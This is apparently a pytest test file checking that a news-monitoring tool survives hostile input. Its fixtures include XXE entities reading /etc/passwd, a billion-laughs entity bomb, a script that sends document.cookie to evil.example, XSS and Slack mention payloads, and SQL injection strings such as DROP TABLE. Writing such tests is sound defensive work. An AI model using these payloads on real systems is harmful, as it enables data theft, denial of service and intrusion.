"""Hostile input (issue 9): nothing crashes, nothing is expanded or read, nothing hostile
reaches an alert or the SQL.

- XML entity expansion (billion laughs) and external entities (a local file, a URL) in
  feeds served on 127.0.0.1 and crawled by ``monitor crawl``;
- malformed and mixed encodings;
- HTML with scripts, styles, event handlers and tracking markup: never in stored text;
- text built to inject into alerts (Slack ``<!channel>``, ``@here``, ``<script>``,
  Markdown links, forged Slack links) rendered through every alert format and delivered;
- SQL injection in titles, URLs and search queries: stored verbatim, harmless.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Iterator

import pytest

from fault_helpers import FaultServer, rss
from monitor.alerts.formatting import EventView, SourceView, render_event, render_followup
from monitor.store import Store

MONITOR = [sys.executable, "-m", "monitor"]
FAST = ["-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=false", "-s", "DOWNLOAD_TIMEOUT=5",
        "-s", "RETRY_TIMES=0"]
MATCHING = Path(__file__).parent / "fixtures" / "matching" / "nov_call.jsonl"

LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(2, 10))
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY lol1 "lol">{LAUGHS}]>
<rss version="2.0"><channel><title>&lol9;</title><link>http://127.0.0.1/</link><description>d</description>
<item><title>Laughing &lol9;</title><link>{{base}}/laughs/1</link><description>&lol9; body</description></item>
</channel></rss>"""

#: Strings that must never come out of the alert renderers unescaped.
HOSTILE = ("<!channel> <!here> @here @channel @everyone @room <@U123ABC> <script>alert(1)</script> "
           "[click me](http://evil.example/phish) <http://evil.example/x|forged link> **bold** "
           "<img src=x onerror=alert(2)> javascript:alert(3)")


def env(**extra: str) -> dict[str, str]:
    base = {k: v for k, v in os.environ.items() if k not in ("APPRISE_URLS", "MONITOR_APPRISE_CONFIG", "MONITOR_DB")}
    base.update(extra)
    return base


@pytest.fixture
def server() -> Iterator[FaultServer]:
    with FaultServer() as srv:
        yield srv


def crawl(server: FaultServer, tmp_path: Path, db: Path, sources: dict[str, tuple[str, bool]],
          ) -> subprocess.CompletedProcess[str]:
    """Crawl feed sources {name: (path, fetch_articles)} once; return the finished process."""
    cat = tmp_path / "hostile.toml"
    cat.write_text("".join(
        f'[[source]]\nname = "{name}"\nspider = "feed"\nurl = "{server.url(path)}"\n'
        f'fetch_articles = {"true" if fetch else "false"}\n\n' for name, (path, fetch) in sources.items()),
        encoding="utf-8")
    return subprocess.run([*MONITOR, "crawl", "--sources", str(cat), "--db", str(db), *FAST],
                          capture_output=True, text=True, env=env(), timeout=120)


def rows(db: Path, sql: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    conn = sqlite3.connect(db)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


# -- XML attacks --------------------------------------------------------------------


@pytest.mark.slow
def test_entity_expansion_and_external_entities_are_never_expanded_or_fetched(
        server: FaultServer, tmp_path: Path, db_path: Path) -> None:
    canary = tmp_path / "secret.txt"
    canary.write_text("XXE-CANARY-7f3a9 root:x:0:0\n", encoding="utf-8")
    base = server.url("")
    server.set_route("/laughs.rss", BILLION_LAUGHS.replace("{base}", base))
    server.set_route("/xxe.rss", f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY file SYSTEM "file://{canary}"><!ENTITY passwd SYSTEM "file:///etc/passwd">
<!ENTITY web SYSTEM "{base}/xxe-probe"><!ENTITY % param SYSTEM "{base}/xxe-dtd"> %param;]>
<rss version="2.0"><channel><title>t</title><link>{base}/</link><description>d</description>
<item><title>Leak &file; &passwd;</title><link>{base}/xxe/1</link>
<description>leak: &file; &passwd; &web;</description></item></channel></rss>""")
    # The same attack in an Atom feed and in an article page's XML island.
    server.set_route("/xxe.atom", f"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY file SYSTEM "file://{canary}">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title><id>{base}/a</id><updated>2024-11-11T09:00:00Z</updated>
<entry><title>Atom &file;</title><id>{base}/xxe/2</id><link href="{base}/xxe/2"/>
<updated>2024-11-11T09:00:00Z</updated><content type="html">leak &amp; &file;</content></entry></feed>""")

    result = crawl(server, tmp_path, db_path, {"laughs": ("/laughs.rss", False), "xxe": ("/xxe.rss", False),
                                               "xxe-atom": ("/xxe.atom", False)})
    assert "Traceback" not in result.stdout
    assert server.hits["/xxe-probe"] == 0 and server.hits["/xxe-dtd"] == 0, "an external entity was fetched"
    runs = {r[0]: (r[1], r[2]) for r in rows(db_path, "SELECT source, status, error FROM crawl_runs")}
    assert set(runs) == {"laughs", "xxe", "xxe-atom"}, result.stdout + result.stderr
    raw = db_path.read_bytes() + b"".join(p.read_bytes() for p in db_path.parent.glob(db_path.name + "-*"))
    assert b"XXE-CANARY" not in raw and b"root:x:0:0" not in raw, "a local file was read into the archive"
    assert b"lollollol" not in raw, "an entity was expanded"
    for title, text in rows(db_path, "SELECT title, text FROM documents"):
        assert len(title) < 200 and len(text) < 500


# -- encodings ----------------------------------------------------------------------


@pytest.mark.slow
def test_malformed_and_mixed_encodings_never_crash_and_store_valid_text(
        server: FaultServer, tmp_path: Path, db_path: Path) -> None:
    base = server.url("")

    def item(k: str, title: str) -> str:
        return (f"<item><title>{title}</title><link>{base}/enc/{k}</link>"
                f"<description>Body {k}</description></item>")

    head = '<rss version="2.0"><channel><title>e</title><link>{0}/</link><description>d</description>'.format(base)
    tail = "</channel></rss>"
    # declared UTF-8, one title in windows-1251 bytes (invalid UTF-8)
    mixed = (f'<?xml version="1.0" encoding="utf-8"?>{head}{item("m1", "Песков: ок")}'.encode()
             + item("m2", "Захарова").encode("cp1251") + tail.encode())
    # declared windows-1251, served with a lying charset=utf-8 header
    lying = (f'<?xml version="1.0" encoding="windows-1251"?>{head}{item("l1", "Лавров заявил")}{tail}'
             ).encode("cp1251")
    # UTF-16 with a BOM
    utf16 = f'<?xml version="1.0" encoding="utf-16"?>{head}{item("u1", "Шойгу")}{tail}'.encode("utf-16")
    # control characters, a NUL and terminal escapes inside a title
    control = (f'<?xml version="1.0" encoding="utf-8"?>{head}'
               f'{item("c1", "Bell" + chr(7) + " NUL" + chr(0) + " esc" + chr(27) + "[31mred")}{tail}').encode()
    # cut in the middle of a multi-byte character
    cut = (f'<?xml version="1.0" encoding="utf-8"?>{head}{item("t1", "Мария Захарова")}'.encode())[:-60]
    server.set_route("/mixed.rss", mixed)
    server.set_route("/lying.rss", lying, content_type="application/rss+xml; charset=utf-8")
    server.set_route("/utf16.rss", utf16)
    server.set_route("/control.rss", control)
    server.set_route("/cut.rss", cut)
    sources = {n: (f"/{n}.rss", False) for n in ("mixed", "lying", "utf16", "control", "cut")}

    result = crawl(server, tmp_path, db_path, sources)
    assert "Traceback" not in result.stdout, result.stdout
    runs = {r[0]: (r[1], r[2]) for r in rows(db_path, "SELECT source, status, error FROM crawl_runs")}
    assert set(runs) == set(sources), result.stdout + result.stderr
    for status, error in runs.values():
        assert status in ("ok", "failed", "suspect") and (status == "ok" or error)
    titles = {url.rsplit("/", 1)[1]: title for url, title in rows(db_path, "SELECT url, title FROM documents")}
    assert titles.get("l1") == "Лавров заявил", titles  # the declaration beats the lying header
    assert titles.get("u1") == "Шойгу", titles
    assert titles.get("m1", "").startswith("Песков"), titles
    # One bad item no longer turns the whole feed into mojibake (its own bytes are lost).
    assert "Захарова" not in titles.get("m2", "") and "Çŕ" not in titles.get("m2", "")
    for title in titles.values():
        title.encode("utf-8")  # every stored string is valid Unicode
    conn = sqlite3.connect(db_path)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    conn.close()


# -- HTML: scripts and tracking -----------------------------------------------------

SCRIPTY_ARTICLE = """<!DOCTYPE html><html><head><title>Ministry statement on grain</title>
<script>window.dataLayer=[];function gtag(){dataLayer.push(arguments)};gtag('config','UA-1');</script>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"LDJSON-HEADLINE-MARK"}</script>
<style>.x{color:red} /* STYLE-MARK */</style>
<meta property="article:published_time" content="2024-11-11T09:00:00Z">
</head><body onload="track('LOAD-MARK')">
<noscript><img src="https://tracker.example/pixel.gif?id=NOSCRIPT-MARK"></noscript>
<article><h1>Ministry statement on grain</h1>
<p>The ministry said grain shipments through the Black Sea continue as planned this week.</p>
<p onclick="steal(document.cookie)">Officials described reports of a blockade as false and misleading.</p>
<script>document.write('<p>INJECTED-BY-SCRIPT</p>'); fetch('https://evil.example/?c='+document.cookie)</script>
<iframe src="https://evil.example/frame">IFRAME-MARK</iframe>
<img src="https://tracker.example/p.gif" width="1" height="1" alt="">
<p>The next briefing is scheduled for Thursday.</p>
</article>
<script src="https://tracker.example/analytics.js"></script></body></html>"""
MARKS = ("gtag", "dataLayer", "LDJSON-HEADLINE-MARK", "STYLE-MARK", "LOAD-MARK", "NOSCRIPT-MARK", "steal(",
         "INJECTED-BY-SCRIPT", "document.cookie", "tracker.example", "<script",
         "onclick", "onerror", "alert(")


@pytest.mark.slow
def test_scripts_and_tracking_markup_never_reach_stored_text(server: FaultServer, tmp_path: Path,
                                                             db_path: Path) -> None:
    base = server.url("")
    server.set_route("/article", SCRIPTY_ARTICLE, content_type="text/html; charset=utf-8")
    # summary-only feed -> the article page is fetched and extracted
    server.set_route("/summaries.rss", rss([{"url": f"{base}/article", "title": "Ministry statement",
                                              "text": ""}]))
    # full content in the feed, with scripts inside the HTML content and an escaped script in the summary
    server.set_route("/content.rss", f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>c</title>
<link>{base}/</link><description>d</description><item><title>Content &lt;script&gt;alert(1)&lt;/script&gt; item</title>
<link>{base}/content/1</link><description>&lt;script&gt;alert(document.cookie)&lt;/script&gt;Summary text
&lt;img src=x onerror=alert(2)&gt;</description>
<content:encoded><![CDATA[<p>Full text paragraph.</p><script>steal(document.cookie)</script>
<style>p{{}} STYLE-MARK</style><p onclick="alert(3)">Second paragraph.</p>
<noscript><img src="https://tracker.example/px?NOSCRIPT-MARK"></noscript>]]></content:encoded></item>
</channel></rss>""")
    result = crawl(server, tmp_path, db_path, {"summaries": ("/summaries.rss", True),
                                               "content": ("/content.rss", False)})
    assert result.returncode == 0, result.stdout + result.stderr
    docs = {url.rsplit("/", 1)[-1]: (title, text) for url, title, text in
            rows(db_path, "SELECT url, title, text FROM documents")}
    assert set(docs) == {"article", "1"}, docs
    article_text = docs["article"][1]
    assert "grain shipments through the Black Sea" in article_text
    assert "reports of a blockade as false" in article_text
    assert "Full text paragraph." in docs["1"][1] and "Second paragraph." in docs["1"][1]
    for _title, text in docs.values():
        for mark in MARKS:
            assert mark not in text, (mark, text)
    # An escaped "&lt;script&gt;" in a plain-text title is the headline's literal text, not
    # markup: it is kept as text (and escaped by every alert format, see below).
    assert docs["1"][0] == "Content <script>alert(1)</script> item"


# -- alerts -------------------------------------------------------------------------


def hostile_event() -> EventView:
    hostile_url = "https://evil.example/a?x=<!channel>|forged>&y=)[z](http://evil.example)"
    report = SourceView(source=f"outlet {HOSTILE}", published="2024-11-10T18:00:00+00:00",
                        title=f"Report {HOSTILE}", url=hostile_url, score=0.9, reason=f"because {HOSTILE}")
    return EventView(key=f"key-{HOSTILE}", speaker=f"Peskov {HOSTILE}", published="2024-11-11T09:12:00+00:00",
                     quote=f"This is fiction {HOSTILE}", quote_url="javascript:alert(document.cookie)",
                     claim=f"Trump and Putin spoke {HOSTILE}",
                     sources=(SourceView(f"kremlin {HOSTILE}", "2024-11-11T09:12:00+00:00", "t",
                                         "http://kremlin.example/1\n<!channel>"),),
                     reports=(report,))


def assert_defused(text: str, markdown: str, html: str) -> None:
    """No format can ping, inject markup or forge a link.

    The text format is plain text: Apprise escapes it for any service that renders
    markup (STACK-NOTES §4), so ``<script>`` may stay there as literal characters; but
    mentions that ping on plain text (``@here``) must be broken there too."""
    for body in (text, markdown, html):
        assert not re.search(r"@(here|channel|everyone|room)\b", body), "a mention survived"
        assert "<@U123ABC>" not in body
    for body in (markdown, html):
        assert "<!channel>" not in body and "<!here>" not in body
        # unescaped only: in Markdown "\\<script\\>" is literal text
        assert not re.search(r"(?<!\\)<(script|img|iframe)", body, re.I), body
    # Markdown: the only links are the ones we built, with targets in <...>; untrusted
    # brackets are escaped, so "[click me](http://evil..." is not a link.
    assert "[click me](http" not in markdown
    assert not re.search(r"(?<!\\)<http://evil\.example/x\|", markdown), "a forged Slack link survived"
    for target in re.findall(r"(?<!\\)\]\((<[^>]*>|[^)]*)\)", markdown):
        assert target.startswith("<http") and "javascript" not in target.lower(), target
        assert "|" not in target and " " not in target, target
    assert "**bold**" not in markdown
    # HTML: every tag is one of ours; every href is http(s).
    assert set(re.findall(r"</?([a-zA-Z0-9]+)", html)) <= {"p", "b", "a", "blockquote", "ul", "ol", "li", "br",
                                                          "small", "i"}
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://")), href


def test_alert_formats_defuse_mentions_markup_and_forged_links() -> None:
    event = hostile_event()
    for rendered in (render_event(event), render_followup(event, event.reports[0])):
        assert_defused(rendered.text, rendered.markdown, rendered.html)
        assert "\n" not in rendered.title and "@here" not in rendered.title
        assert "javascript:alert" not in rendered.markdown.split("Read the denial")[-1][:60]
        assert 'href="javascript' not in rendered.html


class Receiver:
    def __init__(self) -> None:
        self.bodies: list[dict[str, Any]] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802
                receiver.bodies.append(json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0))))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, scheme: str = "json") -> str:
        return f"{scheme}://127.0.0.1:{self.server.server_address[1]}/hook"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.slow
def test_hostile_report_goes_through_detection_matching_and_delivery_defused(tmp_path: Path) -> None:
    """The Nov 2024 scenario with a hostile headline and URL on the contradicted report:
    the alert is queued, delivered to a json:// service, and nothing hostile survives in
    the delivered message or in any stored rendering."""
    records = [json.loads(line) for line in MATCHING.read_text(encoding="utf-8").splitlines() if line.strip()]
    for rec in records:
        if rec["url"].endswith("/trump-putin-call"):
            rec["title"] = rec["title"] + " " + HOSTILE
            rec["url"] = rec["url"] + "?q=<!channel>|forged>"
    data = tmp_path / "hostile.jsonl"
    data.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    db = tmp_path / "a.db"
    imported = subprocess.run([*MONITOR, "import", str(data), "--db", str(db), "--alerts"], capture_output=True,
                              text=True, env=env(), timeout=120)
    assert imported.returncode == 0, imported.stderr
    with Store.open(db) as store:
        alerts = list(store.db["alerts"].rows)
    assert alerts, "the scenario queues an alert"
    hostile_seen = False
    for a in alerts:
        assert_defused(a["body_text"], a["body_markdown"], a["body_html"])
        # (the headline is cut at a word boundary near 200 characters: "[click…"; issue 19)
        hostile_seen |= "[click" in a["body_text"] and "<script>" in a["body_text"]
    assert hostile_seen, "the hostile headline is in the alert, defused"
    receiver = Receiver()
    try:
        sent = subprocess.run([*MONITOR, "alerts", "send", "--db", str(db)], capture_output=True, text=True,
                              env=env(APPRISE_URLS=receiver.url()), timeout=120)
    finally:
        receiver.close()
    assert sent.returncode == 0, sent.stdout + sent.stderr
    assert len(receiver.bodies) == len(alerts)
    assert any("@\u2060here" in str(b.get("message")) for b in receiver.bodies), "the hostile text was delivered"
    for body in receiver.bodies:
        # json:// gets the text format (plain text, see assert_defused): mentions must be broken
        message = str(body.get("message")) + "\n" + str(body.get("title"))
        assert not re.search(r"@(here|channel|everyone|room)\b", message)


# -- SQL ----------------------------------------------------------------------------

INJECTIONS = ["'; DROP TABLE documents; --", "Robert'); DROP TABLE alerts;--", "\" OR 1=1 --",
              "x' UNION SELECT sql FROM sqlite_master --", "1; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
              "documents_fts MATCH '*' OR", "NEAR(\"a\" \"b\")", "\\'; DELETE FROM documents WHERE '1'='1"]


def test_sql_injection_in_titles_urls_and_searches_is_stored_verbatim_and_harmless(tmp_path: Path) -> None:
    data = tmp_path / "sqli.jsonl"
    records = [{"url": f"https://sqli.example/{k}?q={inj.replace(' ', '/**/')}", "title": inj, "text": f"text {inj} ministry",
                "published": "2024-11-11T00:00:00Z", "source": "sqli-src", "lang": "en", "note": inj}
               for k, inj in enumerate(INJECTIONS)]
    data.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    db = tmp_path / "sqli.db"
    out = subprocess.run([*MONITOR, "import", str(data), "--db", str(db)], capture_output=True, text=True, env=env())
    assert out.returncode == 0, out.stderr
    with Store.open(db) as store:
        stored = {r["url"]: (r["title"], r["text"]) for r in store.db["documents"].rows}
        for r in records:
            assert stored[r["url"]] == (r["title"], r["text"]), "stored verbatim"
        for inj in INJECTIONS:
            try:
                store.search(inj)
            except sqlite3.OperationalError:
                pass  # an FTS5 query syntax error (the query is a bound parameter, never SQL)
        assert store.search('"DROP TABLE"')  # a phrase search finds the stored text
        tables = {r[0] for r in store.db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"documents", "alerts", "denials", "matches", "crawl_runs", "sources"} <= tables
        assert store.db.execute("SELECT count(*) FROM documents").fetchone()[0] == len(records)
        assert store.integrity_check() == "ok"
    assert not Path("/tmp/pwn.db").exists() or Path("/tmp/pwn.db").stat().st_size == 0
    # a hostile source name on the command line is a usage error, not SQL
    bad = subprocess.run([*MONITOR, "crawl", INJECTIONS[0], "--db", str(db), "--sources", str(tmp_path / "none.toml")],
                         capture_output=True, text=True, env=env())
    assert bad.returncode == 2
